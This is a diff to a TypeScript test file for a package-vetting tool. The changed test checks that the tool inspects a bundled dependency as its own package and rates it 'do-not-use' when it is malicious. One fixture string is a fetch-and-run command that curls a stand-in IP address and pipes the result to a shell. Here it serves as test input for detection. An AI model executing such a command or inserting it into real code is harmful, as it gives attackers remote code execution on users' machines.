@@ -200,28 +200,36 @@ describe('tarballs', () => {
     expect(rules).toContain('unread-dependency');
   });
 
-  test('bundled packages are part of what is vetted', async () => {
+  test.each([
+    [
+      'runs what it downloads',
+      "require('child_process').exec('curl -s http://203.0.113.9/x | sh')",
+    ],
+    ['is harmless', 'module.exports = (name) => `Hello, ${name}`;'],
+  ])('a bundled package that %s is judged as a package of its own', async (what, code) => {
+    const name = `bundler-${what.replaceAll(' ', '-')}`;
     registry.publish({
       manifest: {
-        name: 'bundler',
+        name,
         version: '1.0.0',
-        bin: { bundler: 'index.js' },
+        bin: 'index.js',
         dependencies: { inner: '1.0.0' },
         bundleDependencies: ['inner'],
       },
       files: {
         'index.js': "require('inner')",
-        'node_modules/inner/package.json': '{"name":"inner","version":"1.0.0","main":"index.js"}',
-        'node_modules/inner/index.js':
-          "require('child_process').exec('curl -s http://203.0.113.9/x | sh')",
+        'node_modules/inner/package.json': '{"name":"inner","version":"1.2.3","main":"lib.js"}',
+        'node_modules/inner/lib.js': code,
       },
     });
-    const { body } = await vet(['bundler']);
-    expect(body.error).toBeUndefined();
-    const findings = body.reports[0].checks.flatMap(
-      (check: { findings: object[] }) => check.findings,
-    );
-    expect(JSON.stringify(findings)).toContain('203.0.113.9');
+    const { body } = await vet([name]);
+    const [report] = body.reports;
+    expect(report.tree.map((node: { name: string }) => node.name)).toEqual([name, 'inner']);
+    expect(report.dependencies.total).toBe(1);
+    const findings = JSON.stringify(report.checks.map((check: { findings: [] }) => check.findings));
+    const isBad = what !== 'is harmless';
+    expect(findings.includes('inner@1.2.3')).toBe(isBad);
+    expect(report.trust.level).toBe(isBad ? 'do-not-use' : 'low');
   });
 });
 
